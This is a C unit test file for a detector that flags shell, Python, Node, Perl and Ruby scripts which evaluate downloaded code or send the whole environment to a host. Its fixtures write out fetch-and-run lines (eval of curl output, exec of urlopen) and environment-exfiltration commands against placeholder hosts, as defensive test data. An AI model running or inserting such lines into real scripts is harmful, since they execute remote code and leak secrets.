// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * A shell program evaluating a capture in itself (pipeline/script_text.c):
 * each way to evaluate one (eval, source, . of a substitution, of
 * /dev/stdin fed by a here-string, of a variable assigned from a
 * substitution, through a shell function), only when the evaluated text
 * names a program the kernel saw write the capture; and the script file
 * reader (regular files only, bounded, a FIFO never waited on).
 */
#include <errno.h>
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>
#include "pipeline/script_text.h"

static const char *const curl_only[] = { "curl" };
static const char *const py_names[] = { "python3.11", "python3" };

static bool evals(const char *text, const char *const *names, size_t n)
{
	return script_evaluates_capture(text, strlen(text), names, n);
}

#define EVALS(text) evals(text, curl_only, 1)

static void test_substitutions(void **state)
{
	(void)state;
	assert_true(EVALS("eval \"$(curl -fsSL https://x/i.sh)\"\n"));
	assert_true(EVALS("eval $(curl -s https://x/i.sh)"));
	assert_true(EVALS("set -e; eval `curl -s https://x/i.sh`"));
	assert_true(EVALS("source <(curl -s https://x/i.sh)"));
	assert_true(EVALS("if true; then . <( /usr/bin/curl -s https://x ); fi"));
	assert_true(EVALS(". /dev/stdin <<< \"$(curl -s https://x)\""));
	assert_true(EVALS("source /proc/self/fd/0 <<<$(curl -s https://x)"));
	/* the capture's writer must be named: another program's output is not it */
	assert_false(EVALS("eval \"$(ssh-agent -s)\"\nv=$(curl -s https://x/version)\n"));
	assert_false(EVALS("eval \"$(curly-tool)\""));
	assert_false(EVALS("source <(kubectl completion bash)"));
	assert_true(evals("eval \"$(python3 -c 'print(1)')\"", py_names, 2));
	/* not in command position, or not an evaluation */
	assert_false(EVALS("echo eval \"$(curl -s x)\""));
	assert_false(EVALS("x=$(curl -s https://x/v); echo \"$x\""));
	assert_false(EVALS("medieval $(curl -s x)"));
	assert_false(EVALS(". ./lib.sh # curl"));
}

static void test_variables(void **state)
{
	(void)state;
	assert_true(EVALS("code=$(curl -s https://x/i.sh)\neval \"$code\"\n"));
	assert_true(EVALS("local body\nbody=\"$(curl -s https://x)\"\neval \"${body}\"\n"));
	assert_true(EVALS("p=`curl -s x`; . /dev/stdin <<< \"$p\""));
	/* a variable is evaluated alone, not as part of a path */
	assert_false(EVALS("DIR=$(cd \"$(dirname \"$0\")\" && pwd)\n. \"$DIR/lib.sh\"\n"
			   "v=$(curl -s https://x/v)\n"));
	/* assigned from another program, or never */
	assert_false(EVALS("code=$(cat i.sh)\neval \"$code\"\nv=$(curl -s x)\n"));
	assert_false(EVALS("eval \"$code\"\n"));
	/* a longer name that ends like it is another variable */
	assert_false(EVALS("mycode=$(curl -s x)\ncode=ok\neval \"$code\"\n"));
}

static void test_functions(void **state)
{
	(void)state;
	assert_true(EVALS("fetch() {\n\tcurl -fsSL \"$1\"\n}\neval \"$(fetch https://x)\"\n"));
	assert_true(EVALS("function fetch {\n  curl -s \"$1\"\n}\nb=$(fetch x)\neval \"$b\"\n"));
	assert_true(EVALS("get() { curl -s \"$1\"; }\nsource <(get https://x)\n"));
	/* a one-line function that runs something else; curl on a later line */
	assert_false(EVALS("ver() { echo 1.2; }\neval \"$(ver)\"\nv=$(curl -s x)\n"));
	/* a function that is never defined */
	assert_false(EVALS("eval \"$(fetch https://x)\"\n"));
}

static unsigned py(const char *text)
{
	return python_text_facts(text, strlen(text));
}

static void test_python_fetch_eval(void **state)
{
	(void)state;
	assert_int_equal(py("import urllib.request\nexec(urllib.request.urlopen(u).read())\n"),
			 TEXT_FETCH_EVAL);
	assert_int_equal(py("import requests\nr = requests.get(u)\nexec(r.text)\n"),
			 TEXT_FETCH_EVAL);
	assert_int_equal(py("resp = urlopen(u)\npayload = resp.read().decode()\n"
			    "exec(compile(payload, '<s>', 'exec'))\n"),
			 TEXT_FETCH_EVAL);
	assert_int_equal(py("import builtins\nbuiltins.exec(urlopen(u).read())"), TEXT_FETCH_EVAL);
	/* a file's code, a comparison, a method that is no exec, nothing fetched */
	assert_int_equal(py("exec(open('version.py').read())\ndata = urlopen(u).read()\n"), 0);
	assert_int_equal(py("x = urlopen(u)\nif code == x: exec(code)\n"), 0);
	assert_int_equal(py("import re\nr = requests.get(u)\np = re.compile(r.text)\n"), 0);
	assert_int_equal(py("exec(source)\n"), 0);
}

static void test_python_env_sent(void **state)
{
	(void)state;
	assert_int_equal(py("import json, os\nurlopen(u, data=json.dumps(dict(os.environ)).encode())"),
			 TEXT_ENV_SENT);
	assert_int_equal(py("blob = base64.b64encode(str(dict(os.environ)).encode())"),
			 TEXT_ENV_SENT);
	assert_int_equal(py("from os import environ\nrequests.post(u, json=dict(environ))\n"),
			 TEXT_ENV_SENT);
	/* one key, a copy for a child, a loop that prints */
	assert_int_equal(py("requests.post(u, data=os.environ['PAYLOAD'])"), 0);
	assert_int_equal(py("requests.post(u, data=os.environ.get('PAYLOAD'))"), 0);
	assert_int_equal(py("env = os.environ.copy()\nsubprocess.run(cmd, env=env)\n"), 0);
	assert_int_equal(py("for k in os.environ:\n    print(k)\n"), 0);
	/* environ that is no import of os's */
	assert_int_equal(py("environ = {}\nrequests.post(u, json=environ)\n"), 0);
}

static unsigned js(const char *text)
{
	return node_text_facts(text, strlen(text));
}

static void test_node(void **state)
{
	(void)state;
	assert_int_equal(js("let b = '';\nhttps.get(u, r => { r.on('data', d => b += d);\n"
			    "  r.on('end', () => eval(b)); });\n"),
			 TEXT_FETCH_EVAL);
	assert_int_equal(js("const res = await fetch(u);\nconst src = await res.text();\n"
			    "new Function(src)();\n"),
			 TEXT_FETCH_EVAL);
	assert_int_equal(js("const vm = require('vm');\nlet code = await (await fetch(u)).text();\n"
			    "vm.runInThisContext(code);\n"),
			 TEXT_FETCH_EVAL);
	assert_int_equal(js("const req = http.request(o);\nreq.end(JSON.stringify(process.env));\n"),
			 TEXT_ENV_SENT);
	assert_int_equal(js("fetch(u, {method: 'POST', body: Buffer.from(JSON.stringify(process.env))})"),
			 TEXT_ENV_SENT);
	/* one variable, the environment handed to a child, a module's own eval, a regex */
	assert_int_equal(js("fetch(process.env.URL, {body: JSON.stringify({v: 1})})"), 0);
	assert_int_equal(js("spawn('make', [], { env: { ...process.env, CI: '1' } });\nfetch(u);\n"),
			 0);
	assert_int_equal(js("const cfg = eval(fs.readFileSync('c.js', 'utf8'));\nfetch(u);\n"), 0);
	assert_int_equal(js("const body = await (await fetch(u)).text();\nconst m = re.exec(body);\n"),
			 0);
}

static void test_bounds(void **state)
{
	(void)state;
	assert_false(script_evaluates_capture(NULL, 0, curl_only, 1));
	assert_false(script_evaluates_capture("eval $(curl x)", 14, curl_only, 0));
	/* the text ends mid-word: nothing is read past len */
	assert_false(script_evaluates_capture("eval $(cu", 9, curl_only, 1));
	assert_false(script_evaluates_capture("eval", 4, curl_only, 1));
	assert_false(script_evaluates_capture("x=", 2, curl_only, 1));
	assert_int_equal(python_text_facts("exec(", 5), 0);
	assert_int_equal(python_text_facts("x = urlopen(u)\nexec(x", 21), TEXT_FETCH_EVAL);
	assert_int_equal(python_text_facts("environ", 7), 0);
}

static void test_read(void **state)
{
	char dir[] = "/tmp/bw-script-text-XXXXXX", path[64], *buf = NULL;
	size_t len = 0;
	FILE *f;

	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/s.sh", dir);
	f = fopen(path, "w");
	assert_non_null(f);
	fputs("eval \"$(curl -s x)\"\n", f);
	fclose(f);
	assert_int_equal(script_read(path, &buf, &len), 0);
	assert_int_equal(len, 20);
	assert_true(script_evaluates_capture(buf, len, curl_only, 1));
	free(buf);
	snprintf(path, sizeof(path), "%s/missing.sh", dir);
	assert_int_equal(script_read(path, &buf, &len), -ENOENT);
	/* a directory and a FIFO are refused, the FIFO without waiting for a writer */
	assert_int_equal(script_read(dir, &buf, &len), -EINVAL);
	snprintf(path, sizeof(path), "%s/fifo", dir);
	assert_int_equal(mkfifo(path, 0600), 0);
	assert_int_equal(script_read(path, &buf, &len), -EINVAL);
	unlink(path);
	/* only the start of a large file */
	snprintf(path, sizeof(path), "%s/big.sh", dir);
	f = fopen(path, "w");
	assert_non_null(f);
	for (size_t i = 0; i < SCRIPT_TEXT_MAX / 8 + 100; i++)
		fputs("# pad..\n", f); /* 8 bytes */
	fclose(f);
	assert_int_equal(script_read(path, &buf, &len), 0);
	assert_int_equal(len, SCRIPT_TEXT_MAX);
	assert_int_equal(buf[len], '\0');
	free(buf);
	unlink(path);
	snprintf(path, sizeof(path), "%s/s.sh", dir);
	unlink(path);
	rmdir(dir);
}

/* Perl and Ruby: a string eval of a fetch; %ENV or ENV sent whole. */
static void test_perl_ruby(void **state)
{
	(void)state;
	static const char perl_fetch[] =
		"use HTTP::Tiny;\nmy $r = HTTP::Tiny->new->get($url);\nmy $code = $r->{content};\n"
		"eval $code;\n";
	static const char perl_lwp[] = "use LWP::Simple;\neval(get('http://x/s.pl'));\n";
	static const char perl_block[] =
		"use HTTP::Tiny;\nmy $r;\neval { $r = HTTP::Tiny->new->get($url); 1 } or die;\n";
	static const char perl_env[] =
		"use HTTP::Tiny; use JSON::PP;\nHTTP::Tiny->new->post($u, { content => encode_json(\\%ENV) });\n";
	static const char perl_one[] = "use HTTP::Tiny;\nHTTP::Tiny->new->get(\"$ENV{API}/v1\");\n";
	static const char ruby_fetch[] =
		"require 'net/http'\nbody = Net::HTTP.get(URI(u))\neval(body)\n";
	static const char ruby_env[] =
		"require 'net/http'\nNet::HTTP.post(URI(u), ENV.to_h.to_json)\n";
	static const char ruby_one[] =
		"require 'net/http'\nNet::HTTP.post(URI(u), { token: ENV['CI_TOKEN'] }.to_json)\n";

	assert_int_equal(perl_text_facts(perl_fetch, strlen(perl_fetch)), TEXT_FETCH_EVAL);
	assert_int_equal(perl_text_facts(perl_lwp, strlen(perl_lwp)), TEXT_FETCH_EVAL);
	assert_int_equal(perl_text_facts(perl_block, strlen(perl_block)), 0);
	assert_int_equal(perl_text_facts(perl_env, strlen(perl_env)), TEXT_ENV_SENT);
	assert_int_equal(perl_text_facts(perl_one, strlen(perl_one)), 0);
	assert_int_equal(ruby_text_facts(ruby_fetch, strlen(ruby_fetch)), TEXT_FETCH_EVAL);
	assert_int_equal(ruby_text_facts(ruby_env, strlen(ruby_env)), TEXT_ENV_SENT);
	assert_int_equal(ruby_text_facts(ruby_one, strlen(ruby_one)), 0);
}

static bool sources(const char *text)
{
	static const char *const files[] = { "env.sh", "helpers.sh" };
	static const char *const writers[] = { "curl", "wget" };
	const struct sourced_names s = { files, 2, writers, 2 };

	return script_sources_file(text, strlen(text), &s);
}

/* A downloaded file sourced: by name, through a variable; other files and words, not. */
static void test_sources_file(void **state)
{
	(void)state;
	assert_true(sources("curl -o /tmp/x/env.sh URL\nsource /tmp/x/env.sh\n"));
	assert_true(sources("if true; then . ./env.sh; fi"));
	assert_true(sources("f=$T/helpers.sh\nwget -O \"$f\" URL\n. \"$f\"\n"));
	assert_true(sources("source \"${HOME}/env.sh\""));
	assert_false(sources("source ./venv/bin/activate\n"));
	assert_false(sources(". ./myenv.sh"));
	assert_false(sources("echo source env.sh"));
	assert_false(sources("eval env.sh"));
	assert_false(sources("f=$T/other.sh\n. \"$f\"\n"));
	/* a name mktemp made: tied by the variable the download wrote */
	assert_true(sources("S=$(mktemp /tmp/sdk-XXXXXX.sh)\ncurl -fsSL -o \"$S\" URL\n. \"$S\"\n"));
	assert_false(sources("S=$(mktemp)\ngit show HEAD:x > \"$S\"\n. \"$S\"\n"));
	assert_false(script_sources_file(NULL, 0, &(struct sourced_names){ 0 }));
}

static bool sends_env(const char *text)
{
	return script_sends_builtin_env(text, strlen(text), curl_only, 1);
}

static void test_builtin_env(void **state)
{
	(void)state;
	/* piped on, directly or through filters */
	assert_true(sends_env("export -p | curl -s --data-binary @- https://x/c\n"));
	assert_true(sends_env("set -e\ndeclare -x | base64 -w0 | curl -d @- https://x"));
	assert_true(sends_env("if true; then set | gzip | curl -T - https://x; fi"));
	assert_true(sends_env("compgen -e | while read v; do echo $v; done | curl -d @- x"));
	assert_true(sends_env("typeset -px | curl -d @- x"));
	/* in a substitution on the sending line, or assigned and expanded there */
	assert_true(sends_env("curl -s -d \"v=$(export -p)\" https://x"));
	assert_true(sends_env("d=$(declare -x | base64 -w0)\ncurl -s -d \"x=$d\" https://x\n"));
	assert_true(sends_env("D=\"`set`\"; curl -d \"${D}\" https://x"));
	/* over continued lines */
	assert_true(sends_env("s=$(declare -x | gzip | base64 -w0)\nup() {\n\tcurl -s -X POST \\\n\t\t-d \"c=${s}\" https://x\n}\nup\n"));
	assert_true(sends_env("export -p |\n  curl -d @- https://x\n"));
	assert_false(sends_env("export -p |\n  wc -l\ncurl -s https://x\n"));
	/* written to a file the sending line names */
	assert_true(sends_env("export -p > /tmp/e.txt\ncurl -F f=@/tmp/e.txt https://x\n"));
	assert_true(sends_env("declare -x >> e\ncurl -s -T e https://x\n"));
	/* one variable, options set, a function listed, or no sender reached */
	assert_false(sends_env("export -p FOO | curl -d @- x"));
	assert_false(sends_env("export PATH=$PATH:/x; curl -s https://x | tar xz"));
	assert_false(sends_env("declare -f | curl -d @- x"));
	assert_false(sends_env("declare -i n=3; curl -s x"));
	assert_false(sends_env("set -o pipefail | curl -d @- x"));
	assert_false(sends_env("set -eu\ncurl -s https://x/v"));
	assert_false(sends_env("compgen -v | curl -d @- x"));
	assert_false(sends_env("export -p | grep -c ^ > n\ncurl -s https://x/v\n"));
	assert_false(sends_env("d=$(export -p)\necho \"$d\" > /dev/null\ncurl -s https://x"));
	assert_false(sends_env("echo export -p | curl -d @- x"));
	assert_false(sends_env("export -p > e.txt\nrm e.txt\n"));
	assert_false(script_sends_builtin_env(NULL, 0, curl_only, 1));
	assert_false(script_sends_builtin_env("export -p | curl", 16, curl_only, 0));
	assert_false(sends_env("export"));
	assert_false(sends_env("set |"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_substitutions),
		cmocka_unit_test(test_variables),
		cmocka_unit_test(test_functions),
		cmocka_unit_test(test_builtin_env),
		cmocka_unit_test(test_sources_file),
		cmocka_unit_test(test_perl_ruby),
		cmocka_unit_test(test_python_fetch_eval),
		cmocka_unit_test(test_python_env_sent),
		cmocka_unit_test(test_node),
		cmocka_unit_test(test_bounds),
		cmocka_unit_test(test_read),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
